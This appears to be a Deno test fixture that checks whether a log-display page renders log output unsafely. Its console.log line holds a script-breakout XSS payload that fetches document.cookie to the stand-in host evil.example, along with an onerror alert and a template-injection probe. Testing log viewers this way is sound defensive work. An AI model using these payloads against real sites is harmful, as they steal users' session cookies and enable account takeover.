// Prints what a page that shows logs would run.
// @answers ANYTHING
// @logs
const at = JSON.parse(Deno.env.get("ATTACK")!);

Deno.serve(async () => {
  console.log(`</script><script>fetch("//evil.example/" + document.cookie)</script><img src=x onerror=alert(1)>`);
  console.error("{{constructor.constructor('return 1')()}} ${7*7} <!--");
  return new Response(`${at.name} was printed`);
});
